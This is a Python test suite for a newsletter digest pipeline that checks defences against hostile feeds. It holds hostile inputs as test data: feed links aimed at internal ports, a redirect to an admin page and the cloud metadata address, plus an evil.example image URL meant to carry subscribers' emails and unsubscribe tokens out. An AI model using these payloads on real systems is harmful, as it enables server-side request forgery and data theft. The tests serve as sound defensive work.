"""A compromised source and a careless deployment: a feed that points at internal
services (another port, a host named only by the feed, a redirect), a site that drips its
bytes, a huge article, content that carries the per-subscriber placeholders. What
leaked, how long it took, and what the digest still held."""

from __future__ import annotations

import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from digest import pipeline
from digest.config import load_config
from digest.demo.smtp_sink import SmtpSink
from tests.conftest import parse, parts, write_config
from tests.http_server import Reply, RouteServer, fixed

BODY = " ".join(f"The probe fired its engine for the {n}th time on its way to the station, "
                "and controllers said the burn went exactly as planned." for n in range(12))
SECRET = b"INTERNAL-SECRET-7f3a"


def article(title: str, extra_head: str = "") -> Reply:
    html = (f"<html><head><title>{title}</title>{extra_head}</head><body><article>"
            f"<h1>{title}</h1><p>{BODY}</p><p>{BODY}</p></article></body></html>")
    return Reply(body=html.encode(), headers={"Content-Type": "text/html; charset=utf-8"})


def feed(base: str, links: list[str], channel_link: str = "") -> Reply:
    items = "".join(f"<item><title>Story {i}</title><link>{link}</link>"
                    f"<category>Spacecraft</category>"
                    f"<pubDate>Mon, 30 Nov 2026 0{i}:00:00 GMT</pubDate></item>"
                    for i, link in enumerate(links))
    xml = (f'<?xml version="1.0"?><rss version="2.0"><channel><title>Spacecraft</title>'
           f"<link>{channel_link or base}</link>{items}</channel></rss>")
    return Reply(body=xml.encode(), headers={"Content-Type": "application/rss+xml"})


@pytest.fixture
def internal() -> Iterator[RouteServer]:
    """Stands for a service on the same machine that no feed should reach."""
    with RouteServer({"/": fixed(Reply(body=SECRET)), "/admin": fixed(Reply(body=SECRET)),
                      "/latest/meta-data/": fixed(Reply(body=SECRET))}) as server:
        yield server


def run(folder: Path, feed_url: str, smtp: SmtpSink, extra: str = "",
        source_extra: str = "") -> pipeline.RunReport:
    path = write_config(folder, feed_urls=[feed_url], smtp_port=smtp.port,
                        extra="retries = 0\n" + extra, source_extra=source_extra)
    return pipeline.run_cycle(load_config(path))


def test_articles_on_another_port_of_the_sources_host_are_not_fetched(
        tmp_path: Path, smtp: SmtpSink, internal: RouteServer) -> None:
    with RouteServer() as site:
        site.routes["/good"] = fixed(article("A good story"))
        site.routes["/feed"] = fixed(feed(site.url, [f"{site.url}/good",
                                                     f"{internal.url}/admin"]))
        report = run(tmp_path, f"{site.url}/feed", smtp)
    assert sum(internal.hits.values()) == 0
    assert report.sent == 3 and report.summarized == 1
    (failure,) = report.failures
    assert failure.url == f"{internal.url}/admin"
    assert "not on the origin of source 'Site 1'" in failure.reason
    assert all(SECRET not in m.data for m in smtp.messages)


def test_the_feeds_channel_link_never_widens_what_is_fetched(
        tmp_path: Path, smtp: SmtpSink, internal: RouteServer) -> None:
    with RouteServer() as site:
        site.routes["/good"] = fixed(article("A good story"))
        site.routes["/feed"] = fixed(feed(site.url, [
            f"{site.url}/good", "http://169.254.169.254/latest/meta-data/",
            f"{internal.url}/"], channel_link="http://169.254.169.254/"))
        report = run(tmp_path, f"{site.url}/feed", smtp)
    assert sum(internal.hits.values()) == 0
    assert report.summarized == 1 and report.sent == 3
    assert all(SECRET not in m.data for m in smtp.messages)


def test_a_redirect_to_an_internal_service_is_refused_at_the_hop(
        tmp_path: Path, smtp: SmtpSink, internal: RouteServer) -> None:
    with RouteServer() as site:
        site.routes["/good"] = fixed(article("A good story"))
        site.routes["/moved"] = fixed(Reply(302, headers={"Location": f"{internal.url}/admin"}))
        site.routes["/feed"] = fixed(feed(site.url, [f"{site.url}/good", f"{site.url}/moved"]))
        report = run(tmp_path, f"{site.url}/feed", smtp)
    assert sum(internal.hits.values()) == 0
    (failure,) = report.failures
    assert f"redirected to {internal.url}/admin" in failure.reason
    assert report.sent == 3 and all(SECRET not in m.data for m in smtp.messages)


def test_an_allowed_host_that_resolves_to_this_machine_is_refused_at_connect(
        tmp_path: Path, smtp: SmtpSink, internal: RouteServer) -> None:
    port = internal.url.rsplit(":", 1)[1]
    with RouteServer() as site:
        site.routes["/good"] = fixed(article("A good story"))
        site.routes["/feed"] = fixed(feed(site.url, [f"{site.url}/good",
                                                     f"http://localhost:{port}/admin"]))
        report = run(tmp_path, f"{site.url}/feed", smtp,
                     source_extra=f'allowed_hosts = ["localhost:{port}"]')
    assert sum(internal.hits.values()) == 0  # connected, refused, nothing asked
    (failure,) = report.failures
    assert "a non-public address; only a configured source may be fetched there" in \
        failure.reason
    assert report.sent == 3


def test_allowed_hosts_lets_a_sources_other_origin_in(tmp_path: Path, smtp: SmtpSink) -> None:
    with RouteServer() as cdn, RouteServer() as site:
        cdn.routes["/story"] = fixed(article("A story on the other origin"))
        site.routes["/feed"] = fixed(feed(site.url, [f"{cdn.url}/story"]))
        for name in ("strict", "open"):
            (tmp_path / name).mkdir()
        strict = run(tmp_path / "strict", f"{site.url}/feed", smtp)
        # the other origin is on 127.0.0.1 too, so the operator also allows that
        allowed = run(tmp_path / "open", f"{site.url}/feed", smtp,
                      extra="allow_private_addresses = true",
                      source_extra=f'allowed_hosts = ["{cdn.url}"]')
    assert strict.summarized == 0 and cdn.hits["/story"] == 1
    assert allowed.summarized == 1 and allowed.sent == 3


def test_a_site_that_drips_its_bytes_cannot_stall_the_run(tmp_path: Path,
                                                        smtp: SmtpSink) -> None:
    def drip() -> Iterator[bytes]:
        yield b"<html><body><p>"
        for _ in range(200):
            time.sleep(0.25)
            yield b"x"

    with RouteServer() as site:
        site.routes["/good"] = fixed(article("A good story"))
        site.routes["/slow"] = fixed(Reply(body=drip(), headers={"Content-Type": "text/html"}))
        site.routes["/feed"] = fixed(feed(site.url, [f"{site.url}/good", f"{site.url}/slow"]))
        started = time.monotonic()
        report = run(tmp_path, f"{site.url}/feed", smtp,
                     extra="request_deadline = 2\n")
        took = time.monotonic() - started
    assert took < 20, took  # a read timeout alone never fires: a byte comes every 0.25 s
    (failure,) = report.failures
    assert "gave up after 2s, the request deadline ([fetch] request_deadline = 2s)" in \
        failure.reason
    assert report.sent == 3 and report.summarized == 1


def test_the_run_deadline_ends_the_fetching_and_the_digest_goes_out(
        tmp_path: Path, smtp: SmtpSink) -> None:
    with RouteServer() as site:
        links = []
        for n in range(6):
            site.routes[f"/s{n}"] = fixed(Reply(body=article(f"Story {n}").body, delay=1.0,
                                                headers={"Content-Type": "text/html"}))
            links.append(f"{site.url}/s{n}")
        site.routes["/feed"] = fixed(feed(site.url, links))
        started = time.monotonic()
        report = run(tmp_path, f"{site.url}/feed", smtp,
                     extra="per_host_concurrency = 1\nrun_deadline = 3.5\n")
        took = time.monotonic() - started
    assert took < 15
    assert 1 <= report.summarized < 6 and report.sent == 3
    assert any("the run's deadline ([fetch] run_deadline = 3.5s)" in f.reason
               for f in report.failures)


def test_a_huge_article_is_summarised_quickly(tmp_path: Path, smtp: SmtpSink) -> None:
    from digest.models import Article
    from digest.summarize import summarize

    sentence = "The capsule docked with the station after a long and careful approach. "
    paragraphs = tuple(sentence * 20 for _ in range(7000))  # about 10 MB of text
    huge = Article(url="https://n.example/huge", title="Huge", source_name="N",
                   published=None, paragraphs=paragraphs)
    started = time.monotonic()
    summary = summarize(huge, max_sentences=3, max_words=90)
    assert time.monotonic() - started < 5
    assert summary.sentences and summary.sentences[0].startswith("The capsule docked")


def _first_text(message: bytes) -> str:
    return parts(parse(message))[0]


MARKERS = ("%%SUBSCRIBER_NAME%%", "%%SUBSCRIBER_EMAIL%%", "%%UNSUBSCRIBE_URL%%",
           "%%WEB_VERSION_URL%%", "ZzNAMEzZ", "zzemailzz@marker.invalid", "ZzTOKENzZ",
           "ZzMIDzZ", "%%0123456789abcdef-EMAIL%%")


def test_content_cannot_fill_in_a_readers_address_or_token(tmp_path: Path,
                                                          smtp: SmtpSink) -> None:
    every = " ".join(MARKERS)
    head = (f'<meta property="og:image" content="https://evil.example/p.gif?u={MARKERS[1]}'
            f'&t={MARKERS[2]}&z={MARKERS[6]}">'
            f'<link rel="canonical" href="https://evil.example/{MARKERS[2]}">')
    with RouteServer() as site:
        page = article(f"Probe {every}", head).body.replace(
            b"</article>", f"<p>Source: {every}</p></article>".encode())
        page = page.replace(b"<p>The probe", f"<p>{every} The probe".encode(), 1)
        site.routes["/a"] = fixed(Reply(body=page, headers={"Content-Type": "text/html"}))
        site.routes["/feed"] = fixed(feed(site.url, [f"{site.url}/a?x={MARKERS[2]}"]))
        report = run(tmp_path, f"{site.url}/feed", smtp)
    assert report.sent == 3
    for received in smtp.messages:
        message = parse(received.data)
        email = received.recipients[0]
        token = str(message["List-Unsubscribe"]).split("/unsubscribe/")[1].split(">")[0]
        text, html = parts(message)
        # the address: in To and in the footer's one sentence, in each part, and nowhere else
        assert email in str(message["To"])
        assert text.count(email) == 1 and html.count(email) == 1
        assert f"subscribed with {email}" in " ".join(text.split())
        # the token: in the unsubscribe links the template owns, and nowhere else
        assert text.count(token) == 1 and html.count(token) == 1
        assert f'/unsubscribe/{token}"' in html
        # a hostile og:image or canonical link carries neither (and the canonical is not
        # the article's link)
        assert all(token not in chunk and email not in chunk
                   for chunk in html.split('"') if "evil.example" in chunk)
        assert 'href="https://evil.example/' not in html
        assert all(token not in part and email not in part
                   for part in (message["Subject"], message["Message-ID"]))


def test_a_relay_that_takes_a_message_then_hangs_up_gets_it_at_most_twice(
        tmp_path: Path) -> None:
    from digest.demo.site import SampleSite, SiteServer, load_sample_articles
    from digest.demo.smtp_sink import VANISH
    from tests.conftest import query

    def answer(_number: int, recipient: str) -> str:
        return VANISH if recipient == "ada@example.org" else "250 OK"

    with SiteServer(SampleSite(load_sample_articles())) as site, \
            SmtpSink(answer=answer) as relay:
        path = write_config(tmp_path, feed_urls=[site.feed_url("Spacecraft")],
                            smtp_port=relay.port,
                            extra="[delivery]\nretry_delay = 0\n")
        first = pipeline.run_cycle(load_config(path))
        again = pipeline.resume(load_config(path))
        copies = [m for m in relay.messages if m.recipients == ("ada@example.org",)]
    assert len(copies) == 2  # the message, and one resend: never a loop
    assert first.unconfirmed == 1 and first.sent == 2
    assert again.resumed_digest_id is None  # nothing left: unconfirmed is not retried
    ((status, reply),) = query(tmp_path, "SELECT status, reply FROM deliveries WHERE email = "
                                         ":e", e="ada@example.org")
    assert status == "unconfirmed" and "before the server answered" in reply
    assert query(tmp_path, "SELECT status FROM digests") == [("sent",)]


def test_a_strict_relay_takes_every_message_whatever_the_content(tmp_path: Path) -> None:
    long_path = "/" + "segment-" * 700  # a 5,600-character URL with no place to break it
    srcset = ", ".join(f"https://img.example/{long_path}/{w}.jpg {w}w" for w in (320, 640))
    word = "Supercalifragilistic" * 80
    with RouteServer() as site, SmtpSink() as strict:  # aiosmtpd with its default limits
        head = (f'<meta property="og:image" content="https://img.example{long_path}.jpg">'
                f'<meta property="og:title" content="Probe {word}">')
        page = article(f"A probe {word}", head).body.replace(
            b"<h1>", f'<img srcset="{srcset}" alt="x"><h1>'.encode())
        site.routes[long_path] = fixed(Reply(body=page, headers={"Content-Type": "text/html"}))
        site.routes["/short"] = fixed(article("A short one"))
        site.routes["/feed"] = fixed(feed(site.url, [f"{site.url}{long_path}",
                                                     f"{site.url}/short"]))
        report = run(tmp_path, f"{site.url}/feed", strict)
        received = strict.messages
    assert report.sent == 3 and report.failed == 0, report
    assert len(received) == 3
    for message in received:
        longest = max(len(line) for line in message.data.split(b"\r\n"))
        assert longest <= 998, longest
        text, html = parts(parse(message.data))
        assert long_path in html.replace("=\r\n", "") or long_path in text
